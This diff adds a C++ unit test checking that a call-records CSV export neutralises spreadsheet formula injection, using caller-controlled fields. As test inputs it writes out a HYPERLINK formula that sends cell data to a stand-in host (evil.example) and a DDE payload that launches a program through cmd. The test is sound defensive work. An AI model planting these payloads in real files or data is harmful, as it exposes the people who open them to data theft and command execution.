@@ -97,6 +97,26 @@ TEST(CallRecordsCsv, ZeroIsNotEmpty) {
     EXPECT_NE(rows[1].find(",125,30,0,answered,"), std::string::npos) << rows[1];
 }
 
+TEST(CallRecordsCsv, ACellAFormulaCouldStartWithIsTextInASpreadsheet) {
+    // The caller chose its name: opened in a spreadsheet, the export must not run it.
+    CallRecord r = answered_call();
+    r.caller = "=HYPERLINK(\"http://evil.example/\"&A1,\"x\")";
+    r.hangup_cause = "@SUM(1+1)";
+    r.dialled = "-2+3+cmd|' /C calc'!A0";
+    r.digits = "\t=1";
+    r.agent = "+98912";  // a number with its sign stays as it is
+    r.ivr_path = {"-5"};
+    const std::string csv = call_records_csv({r});
+    EXPECT_NE(csv.find(",\"'=HYPERLINK(\"\"http://evil.example/\"\"&A1,\"\"x\"\")\","),
+              std::string::npos)
+        << csv;
+    EXPECT_NE(csv.find(",'@SUM(1+1),"), std::string::npos) << csv;
+    EXPECT_NE(csv.find(",'-2+3+cmd|' /C calc'!A0,"), std::string::npos) << csv;
+    EXPECT_NE(csv.find(",'\t=1,"), std::string::npos) << csv;
+    EXPECT_NE(csv.find(",+98912,"), std::string::npos) << csv;
+    EXPECT_NE(csv.find(",-5,"), std::string::npos) << csv;
+}
+
 TEST(CallRecordsCsv, FieldsWithACommaAQuoteOrALineBreakAreQuoted) {
     CallRecord r = answered_call();
     r.caller = "Smith, John";
